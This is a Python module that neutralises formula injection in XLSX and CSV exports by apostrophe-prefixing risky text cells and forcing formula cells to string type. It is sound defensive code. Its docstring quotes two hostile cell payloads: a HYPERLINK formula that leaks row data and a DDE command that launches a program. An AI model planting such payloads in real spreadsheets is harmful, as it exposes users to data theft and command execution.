"""Cells of spreadsheet and CSV exports that hold text users typed: never a live formula.

Excel, LibreOffice and WPS run a cell that starts with "=", "+", "-" or "@" as a formula
(and a tab or carriage return before one is dropped): a case title
'=HYPERLINK("http://…?"&A2,"…")' sends the row's data away when clicked, an address
"=cmd|' /C calc'!A0" starts a program through DDE. Every export that holds user text
writes it through this module:

- XLSX: openpyxl makes any str that starts with "=" a formula cell (data_type "f");
  ``xlsx_row`` and ``strings_only`` keep such text a string cell (data_type "s"), shown
  exactly as typed. Characters that XML cannot hold (openpyxl refuses them) are dropped.
- CSV: a text cell that starts with one of FORMULA_START gets a leading "'" (OWASP's
  advice), which spreadsheets show as text. Only text: a number such as -5 stays a number.
  ``sql_csv_text`` does the same inside PostgreSQL, for CSV written by COPY.
"""

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value):
    """Return a CSV cell's value: text that a spreadsheet would run gets a leading "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_row(values):
    """Return the row's values for csv.writer (csv_text on each)."""
    return [csv_text(value) for value in values]


def sql_csv_text(column):
    """Return SQL of a text column (an identifier of ours, never user input) for CSV."""
    return (
        f"CASE WHEN left({column}, 1) IN ('=', '+', '-', '@', chr(9), chr(13)) "
        f"THEN '''' || {column} ELSE {column} END"
    )


def xlsx_text(value):
    """Return the value with the characters that XLSX (XML 1.0) cannot hold removed."""
    if isinstance(value, str) and ILLEGAL_CHARACTERS_RE.search(value):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def xlsx_row(sheet, values):
    """Return the values for ``sheet.append``: text that looks like a formula as text cells.

    Works for write-only and ordinary worksheets. Only the rare text that starts with "="
    becomes a cell object: openpyxl writes plain values faster.
    """
    row = []
    for value in values:
        value = xlsx_text(value)
        if isinstance(value, str) and value.startswith("="):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"
            value = cell
        row.append(value)
    return row


def strings_only(workbook):
    """Make every formula cell of the workbook a string cell; return the workbook.

    Our workbooks write no formulas of their own: a formula cell can only be text that
    came in starting with "=". Called just before saving, whatever wrote the cells.
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    return workbook
